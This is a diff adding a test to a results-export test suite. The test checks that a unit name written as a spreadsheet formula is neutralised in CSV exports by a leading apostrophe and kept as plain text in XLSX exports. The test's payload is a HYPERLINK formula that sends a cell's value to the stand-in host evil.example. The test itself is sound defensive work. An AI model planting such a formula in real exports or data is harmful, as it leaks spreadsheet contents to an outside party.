@@ -6,6 +6,7 @@ import { buildTestApp } from './helpers/app.js'
 import { loginAs } from './helpers/auth.js'
 import { publishedDemoRound } from './helpers/results.js'
 import { parseCsv } from './domain/fixtures.js'
+import { parseCsv as parseCsvText } from '../server/domain/csv.js'
 
 /** A CSV export's text without its BOM, after checking the BOM and the CRLF line ends. */
 function csvText (t: Test, body: Buffer): string {
@@ -90,4 +91,29 @@ t.test('the XLSX Bảng 1 has the index of the results, the publication time in 
   for (const [sheet, titles] of [[summary, '3:3'], [detail, '3:4']] as const) {
     t.match(sheet.pageSetup, { paperSize: 9, orientation: 'landscape', fitToPage: true, fitToWidth: 1, fitToHeight: 0, printTitlesRow: titles }, `${sheet.name}: A4 landscape, one page wide, headers on every page`)
   }
+})
+
+t.test('a name a spreadsheet would run as a formula reaches the CSV as text, in both dialects; the XLSX keeps it as text', async (t) => {
+  const app = await buildTestApp(t)
+  const roundId = await publishedDemoRound(app)
+  const admin = await loginAs(app, 'admin')
+  const units = (await app.inject({ method: 'GET', url: '/units?unitType=department&limit=100', headers: admin.headers })).json().items as { id: string, code: string }[]
+  const unit = units.find((u) => u.code === 'SO-TTTT') as { id: string }
+  const name = '=HYPERLINK("http://evil.example/?d="&C3,"Sở TTTT")'
+  t.equal((await app.inject({ method: 'PATCH', url: `/units/${unit.id}`, headers: admin.headers, payload: { name } })).statusCode, 200)
+  const published = await app.inject({ method: 'POST', url: `/rounds/${roundId}/results/publish`, headers: admin.headers, payload: { unitType: 'department', reason: 'Sửa tên đơn vị' } })
+  t.equal(published.statusCode, 201)
+  const base = `/public/rounds/${roundId}/results/department/export?format=csv`
+  for (const [dialect, separator] of [['standard', ','], ['excel-vi', ';']] as const) {
+    const text = csvText(t, (await app.inject({ method: 'GET', url: `${base}&dialect=${dialect}` })).rawPayload)
+    const row = parseCsvText(text, separator).rows.find((r) => r.cells[1] === 'SO-TTTT')
+    t.equal(row?.cells[2], `'${name}`, `${dialect}: the name's cell starts with an apostrophe, so a spreadsheet shows it as text`)
+  }
+  const xlsx = await app.inject({ method: 'GET', url: `/rounds/${roundId}/results/export?unitType=department&format=xlsx`, headers: admin.headers })
+  const workbook = new ExcelJS.Workbook()
+  await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer)
+  const cells: ExcelJS.Cell[] = []
+  ;(workbook.getWorksheet('Bảng 1') as ExcelJS.Worksheet).eachRow((row) => row.eachCell((cell) => { if (String(cell.value).includes('HYPERLINK')) cells.push(cell) }))
+  t.equal(cells.length, 1)
+  t.equal(cells[0]?.value, name, 'the workbook\'s cell is the name as text (a string, no formula)')
 })
